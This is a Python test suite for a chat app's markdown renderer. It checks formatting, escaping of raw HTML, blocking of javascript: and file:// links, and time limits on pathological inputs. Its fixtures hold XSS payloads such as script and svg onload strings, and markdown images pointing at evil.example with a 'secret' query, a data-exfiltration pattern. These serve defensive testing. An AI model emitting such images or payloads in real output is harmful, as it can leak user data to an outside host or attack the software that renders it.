"""Markdown: formatted within a budget, harmless, and never cut (RN2, RN7, PI4, GU8)."""

from __future__ import annotations

import time

import pytest

from desktop_app.ui.chat.markdown import CodeBlock, PlainBlock, TextBlock, render
from desktop_app.ui.theme import LIGHT


def html(text):
    return "".join(block.html for block in render(text, LIGHT).blocks)


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("**b** *i* ~~s~~", "<strong>b</strong> <em>i</em> <s>s</s>"),
        ("- a\n- b", "<li>a</li>"),
        ("|a|b|\n|-|-|\n|1|2|", "<td>1</td>"),
        ("`x < y`", "x &lt; y</code>"),
        ("[t](https://example.org/?a=1&b=2)", 'href="https://example.org/?a=1&amp;b=2"'),
        ("<https://example.org>", 'href="https://example.org"'),
    ],
)
def test_formats(text, found):
    assert found in html(text)


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<img src=/dev/zero>",
        "<style>@import url(file:///etc/hosts)</style>",
        "<iframe src=x></iframe>",
        "<form action=x><input></form>",
        '<meta http-equiv="refresh" content="0">',
        "<svg onload=x>",
        "<object data=x>",
        "a <b onclick=x>b</b>",
        '<table background="file:///dev/zero">',
    ],
)
def test_rn2_raw_html_is_shown_as_text(text):
    page = html(text)
    assert "&lt;" in page
    for tag in ("<script", "<img", "<style", "<iframe", "<form", "<meta", "<svg", "<object", "<b "):
        assert tag not in page


@pytest.mark.parametrize(
    "text",
    [
        "![x](http://evil.example/?q=secret)",
        "![x][r]\n\n[r]: http://evil.example/x",
        "[![x](http://evil.example/x)](http://evil.example/y)",
        '![x](http://evil.example/x "a title")',
    ],
)
def test_pi4_images_become_words(text):
    page = html(text)
    assert "[image blocked: evil.example]" in page
    assert "<img" not in page


def test_a_refused_link_keeps_its_words():
    page = html("[press me](javascript:alert(1)) and [me](file:///etc/passwd)")
    assert "press me [link blocked]" in page
    assert "href" not in page


def test_code_stands_by_itself_exactly():
    code = 'print("<&>")\n\n\tend  '
    assert render(f"Before\n\n```py\n{code}\n```\nAfter", LIGHT).blocks[1] == CodeBlock(code, "py")


def test_code_in_a_list_can_be_copied():
    rendered = render("1. Do:\n   ```bash\n   ls -l\n   ```", LIGHT)
    assert rendered.nested_code == ("ls -l",)
    assert 'href="copy:0"' in rendered.blocks[0].html


def test_an_unfinished_fence_is_code_already():
    assert render("```python\nx = 1", LIGHT).blocks == (CodeBlock("x = 1", "python"),)


HOSTILE = {
    "brackets": "[" * 19_000,
    "brackets with spaces": "[ " * 45_000,
    "emphasis": "*a **b " * 8_000,
    "quotes": ">" * 5_000 + "x",
    "list": "\n".join("  " * n + "- x" for n in range(200)),
    "columns": "|" + "a|" * 2_000 + "\n|" + "-|" * 2_000 + "\n|" + "b|" * 2_000,
    "cells": "|a|b|\n|-|-|\n" + "|c|d|\n" * 4_000,
    "links": "[a](http://b.c) " * 5_000,
    "backticks": "".join("`" * n + " " for n in range(1, 400)),
    "angles": "<a " * 20_000,
    "entities": "&amp; " * 15_000,
    "no space": "x" * 200_000,
    "tables in html": "<table><tr><td>" * 2_000,
    "code lines": "```\n" + "x\n" * 20_000 + "```",
}


@pytest.mark.parametrize("name", HOSTILE)
def test_gu8_rn7_hostile_text_is_never_slow_and_never_cut(name):
    text = HOSTILE[name]
    began = time.process_time()
    rendered = render(text, LIGHT)
    assert time.process_time() - began < 0.6
    if rendered.plain:
        assert rendered.blocks == (PlainBlock(text),)


@pytest.mark.parametrize("name", ["quotes", "columns", "cells", "no space", "code lines"])
def test_gu8_beyond_the_limits_it_is_plain(name):
    assert render(HOSTILE[name], LIGHT).plain


def test_a_budget_of_nothing_is_plain():
    assert render("Some *text*.", LIGHT, budget=-1.0).plain


def test_quotes_are_never_nested_tables():
    assert html("> " * 20 + "deep").count("<table") == 1


def test_long_answers_come_in_several_blocks():
    text = "\n\n".join(f"Paragraph {n} with some words in it." for n in range(400))
    blocks = render(text, LIGHT).blocks
    assert len(blocks) > 2
    longer = render(text + "\n\nMore.", LIGHT).blocks
    assert longer[:-1] == blocks[: len(longer) - 1]
    assert all(isinstance(block, TextBlock) for block in blocks)
